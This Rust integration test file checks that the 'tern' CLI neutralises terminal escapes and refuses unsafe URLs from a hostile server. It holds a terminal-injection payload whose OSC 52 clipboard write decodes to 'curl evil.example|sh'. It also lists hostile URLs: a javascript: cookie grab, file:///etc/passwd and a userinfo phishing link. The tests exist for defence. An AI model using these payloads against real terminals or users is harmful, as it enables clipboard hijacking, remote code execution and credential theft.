//! A hostile server (`peers/hostile_stdio_server.py`): every string it
//! sends carries terminal escapes (the window title, the clipboard, clearing
//! the screen, overwriting the line above, colours, an OSC 8 link, concealed
//! text, a C1 CSI, a bidi override). In a real terminal (tmux) the pane's
//! title, the clipboard and tern's own lines stay as they were; in pipe mode
//! and with `--json` no raw ESC, C1 or bidi control leaves tern; URL
//! consent opens only what it should, with a recording fake opener.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;

use crate::terminal::Tmux;

/// The escapes every string of the hostile server carries.
const P: &str = "\x1b]0;PWNED-TITLE\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[2J\x1b[H\x1b[1A\x1b[2K\x1b[31mRED\x1b[0m\x1b]8;;https://evil.example/\x1b\\LINK\x1b]8;;\x1b\\\x1b[8mHIDDEN\x1b[0m\u{9b}2J\u{202e}CBA";

fn server() -> String {
    format!(
        "{}/tests/it/peers/hostile_stdio_server.py",
        env!("CARGO_MANIFEST_DIR")
    )
}

fn tern(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_tern"))
        .args(args)
        .args(["--", "python3", &server()])
        .env_remove("TERN_BROWSER")
        .env_remove("TERN_LOG")
        .output()
        .unwrap()
}

/// [`tern`] with the server's standard error logged (`TERN_LOG=info`).
fn tern_logged(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_tern"))
        .args(args)
        .args(["--", "python3", &server()])
        .env("TERN_LOG", "info")
        .output()
        .unwrap()
}

/// No byte a terminal would act on: ESC, BEL, C1 (UTF-8 `C2 80`–`C2 9F`),
/// the bidi override U+202E and its kin.
fn assert_inert(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let bad: Vec<(usize, char)> = text
        .char_indices()
        .filter(|(_, c)| {
            let u = u32::from(*c);
            (u < 0x20 && *c != '\n') || (0x7f..=0x9f).contains(&u) || (0x202a..=0x202e).contains(&u)
        })
        .collect();
    assert!(
        bad.is_empty(),
        "{what}: raw control characters {bad:?} in:\n{text}"
    );
}

/// A scratch folder of this test process.
fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("tern-hostile-{}-{name}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

#[test]
fn pipe_mode_writes_no_raw_escape_c1_or_bidi_character() {
    for (args, code) in [
        (&["tools"][..], 0),
        (&["discover"][..], 0),
        (&["call", "ask", "--answer", "pick=a"][..], 0),
        (&["call", "fail"][..], 3),
        (&["questions", "ask"][..], 0),
        (&["prompts"][..], 0),
        (&["prompt", "p"][..], 0),
        (&["resources"][..], 0),
        (&["read", "evil://r"][..], 0),
        // The server's standard error as it comes (`server: ...`).
        (&["tools", "-v"][..], 0),
    ] {
        let o = tern_logged(args);
        assert_eq!(
            o.status.code(),
            Some(code),
            "{args:?}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        assert_inert(&format!("{args:?} stdout"), &o.stdout);
        assert_inert(&format!("{args:?} stderr"), &o.stderr);
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        );
        // Shown, escaped, for a person to see what the server sent.
        assert!(all.contains("\\x1b]0;PWNED-TITLE\\x07"), "{args:?}: {all}");
        assert!(all.contains("\\u{9b}2J\\u{202e}CBA"), "{args:?}: {all}");
    }
    // A list is one line per item: the description's fake header is folded
    // into its line.
    let o = tern(&["tools"]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        !out.lines().any(|l| l.starts_with("-- ")),
        "no line of a description stands alone: {out}"
    );
    // The server's error, escaped on one line; its standard error is not
    // appended while it lives (only `-v` shows it, escaped too).
    let o = tern(&["call", "fail"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("ERROR\\x1b]0;PWNED-TITLE"), "{err}");
    assert!(!err.contains("| failing"), "{err}");
    let o = tern(&["call", "fail", "-v"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("server: failing\\x1b]0;PWNED-TITLE"), "{err}");
    let o = tern(&["tools", "-v"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("server: starting\\x1b]0;PWNED-TITLE"), "{err}");
    assert!(
        !err.lines().any(|l| l.starts_with("-- ")),
        "the error's fake header stays on its line: {err}"
    );
}

#[test]
fn json_output_is_exact_json_with_c1_and_bidi_escaped() {
    let o = tern(&["tools", "--json"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_inert("tools --json", &o.stdout);
    let text = String::from_utf8(o.stdout).unwrap();
    assert!(
        text.contains("\\u009b") && text.contains("\\u202e"),
        "C1 and bidi controls as JSON escapes: {text}"
    );
    let v: Value = serde_json::from_str(&text).unwrap();
    // Exact: the strings parse back to what the server sent.
    assert_eq!(v["tools"][0]["title"], format!("Ask{P}"));
    let o = tern(&["call", "ask", "--answer", "pick=b", "--json"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_inert("call --json", &o.stdout);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(
        v["content"][0]["text"]
            .as_str()
            .unwrap()
            .starts_with(&format!("RESULT b{P}")),
        "{v}"
    );
    let o = tern(&["discover", "--json"]);
    assert_inert("discover --json", &o.stdout);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["instructions"], format!("instructions{P}"));
}

/// Whether an SGR sequence in `screen` (a `capture-pane -e` dump) turns on
/// conceal (parameter 8, outside a 38/48 colour).
fn conceals(screen: &str) -> bool {
    screen.split("\x1b[").skip(1).any(|seq| {
        let Some(end) = seq.find(|c: char| c.is_ascii_alphabetic()) else {
            return false;
        };
        if &seq[end..=end] != "m" {
            return false;
        }
        let params: Vec<&str> = seq[..end].split(';').collect();
        let mut i = 0;
        while i < params.len() {
            match params[i] {
                "38" | "48" => {
                    i += if params.get(i + 1) == Some(&"5") {
                        3
                    } else {
                        5
                    }
                }
                "8" => return true,
                _ => i += 1,
            }
        }
        false
    })
}

#[test]
fn in_a_terminal_the_title_clipboard_and_terns_own_lines_are_untouched() {
    let tern = env!("CARGO_BIN_EXE_tern");
    let server = server();
    // Waits for Enter first, so the clipboard is on before anything runs.
    let t = Tmux::start(
        "hostile",
        &format!(
            "read go; '{tern}' tools -- python3 '{server}'; '{tern}' call ask -- python3 '{server}'; echo EXIT=$?; sleep 60"
        ),
    );
    assert!(
        t.tmux(&["set", "-g", "set-clipboard", "on"])
            .status
            .success()
    );
    let title = |t: &Tmux| {
        String::from_utf8_lossy(&t.tmux(&["display", "-p", "#{pane_title}"]).stdout).into_owned()
    };
    // Room for everything both commands print, so a clear would show.
    assert!(
        t.tmux(&["resize-window", "-t", "t", "-y", "150"])
            .status
            .success()
    );
    let before = title(&t);
    t.keys(&["Enter"]);
    let screen = t.wait_for("> 1) Option A");
    // Who asks: named by the command line, the server's claim after it.
    assert!(
        screen.contains(&format!(
            "-- `python3 {server}` asks, for ask; it calls itself \"Evil\\x1b]0;PWNED-TITLE"
        )),
        "{screen}"
    );
    assert!(
        screen.contains("Pick one\\x1b]0;PWNED-TITLE\\x07"),
        "{screen}"
    );
    // The message's fake header is indented under the real one.
    assert!(
        screen.contains("\n  -- tern demo asks, for ask --"),
        "{screen}"
    );
    t.keys(&["Enter"]);
    t.wait_for("Send these answers");
    t.keys(&["Enter"]);
    let screen = t.wait_for("EXIT=");
    assert!(screen.contains("EXIT=0"), "{screen}");
    assert!(screen.contains("RESULT a\\x1b]0;PWNED-TITLE"), "{screen}");

    assert_eq!(title(&t), before, "the pane title is tern's shell's");
    assert!(!title(&t).contains("PWNED"));
    let buffer = t.tmux(&["show-buffer"]);
    assert!(
        !buffer.status.success() || buffer.stdout.is_empty(),
        "nothing reached the clipboard: {}",
        String::from_utf8_lossy(&buffer.stdout)
    );
    // Nothing was cleared: the visible screen still shows `tern tools`.
    let visible = String::from_utf8_lossy(&t.tmux(&["capture-pane", "-p", "-J", "-t", "t"]).stdout)
        .into_owned();
    assert!(visible.contains("(* required)"), "{visible}");
    assert!(visible.contains("fail  Fails\\x1b]0;"), "{visible}");
    // And nothing on it is concealed.
    let styled = String::from_utf8_lossy(&t.tmux(&["capture-pane", "-p", "-e", "-t", "t"]).stdout)
        .into_owned();
    assert!(!conceals(&styled), "concealed text on screen: {styled:?}");
}

/// A fake opener that appends its argument count and arguments to `log`.
fn recording_opener(dir: &Path) -> (PathBuf, PathBuf) {
    let log = dir.join("opened.log");
    let opener = dir.join("opener");
    std::fs::write(
        &opener,
        format!(
            "#!/bin/sh\nprintf 'argc=%s\\n' \"$#\" >> '{0}'\nfor a in \"$@\"; do printf 'arg=%s\\n' \"$a\" >> '{0}'; done\n",
            log.display()
        ),
    )
    .unwrap();
    let mut perms = std::fs::metadata(&opener).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
    std::fs::set_permissions(&opener, perms).unwrap();
    (opener, log)
}

#[test]
fn url_consent_opens_only_https_and_http_as_one_argument() {
    let dir = scratch("opener");
    let (opener, log) = recording_opener(&dir);
    let tern = env!("CARGO_BIN_EXE_tern");
    let server = server();
    let call = |n: usize, url: &str| {
        format!("'{tern}' call open 'url={url}' -- python3 '{server}'; echo EXIT{n}=$?; ")
    };
    let mut script = format!(
        "export TERN_BROWSER='{}' TERN_PROMPTS=lines; ",
        opener.display()
    );
    let refused = [
        "javascript:alert(document.cookie)",
        "file:///etc/passwd",
        "-x",
        "http://127.0.0.1:1/admin",
    ];
    for (n, url) in refused.iter().enumerate() {
        script.push_str(&call(n, url));
    }
    script.push_str(&call(4, "https://bank.example@evil.example/login"));
    script.push_str(&call(5, "http://plain.example/signin"));
    script.push_str(&call(6, "https://auth.example/ok?x=1&y=-z"));
    script.push_str("sleep 60");
    let t = Tmux::start("opener", &script);

    // Refused without a question: nothing to agree to.
    let screen = t.wait_for("EXIT3=");
    for n in 0..4 {
        assert!(screen.contains(&format!("EXIT{n}=1")), "{screen}");
    }
    assert!(
        screen.contains("its scheme is javascript: (tern opens only https:// and http:// pages)"),
        "{screen}"
    );
    assert!(screen.contains("its scheme is file:"), "{screen}");
    assert!(screen.contains("URL:  -x"), "{screen}");
    assert!(screen.contains("it is not an absolute URL"), "{screen}");
    assert!(
        screen.contains("127.0.0.1:1 is this machine or a private network"),
        "{screen}"
    );
    assert_eq!(
        screen.matches("Open this URL in your browser?").count(),
        0,
        "{screen}"
    );

    // The user@ URL: the real host and a warning; declined here.
    let screen = t.wait_for("Open this URL in your browser?");
    assert!(screen.contains("Host: evil.example\n"), "{screen}");
    assert!(
        screen.contains("! warning: the URL puts `bank.example@` before its host"),
        "{screen}"
    );
    t.type_line("n");
    t.wait_for("EXIT4=1");

    // Plain http: offered, with a warning; declined here.
    let prompts = |n: usize| {
        t.until(&format!("question {n}"), || {
            t.screen().matches("Open this URL in your browser?").count() == n
        });
        t.screen()
    };
    let screen = prompts(2);
    assert!(screen.contains("Host: plain.example\n"), "{screen}");
    assert!(
        screen.contains(
            "! warning: plain http: the page, and anything you type on it, travels unencrypted"
        ),
        "{screen}"
    );
    t.type_line("n");
    t.wait_for("EXIT5=1");

    // The https URL, agreed to: opened once, as one argument.
    let screen = prompts(3);
    assert!(screen.contains("Host: auth.example\n"), "{screen}");
    t.type_line("y");
    let screen = t.wait_for("EXIT6=");
    assert!(screen.contains("Opened with"), "{screen}");
    assert!(screen.contains("EXIT6=0"), "{screen}");
    let recorded = std::fs::read_to_string(&log).unwrap();
    assert_eq!(recorded, "argc=1\narg=https://auth.example/ok?x=1&y=-z\n");
    std::fs::remove_dir_all(&dir).unwrap();
}
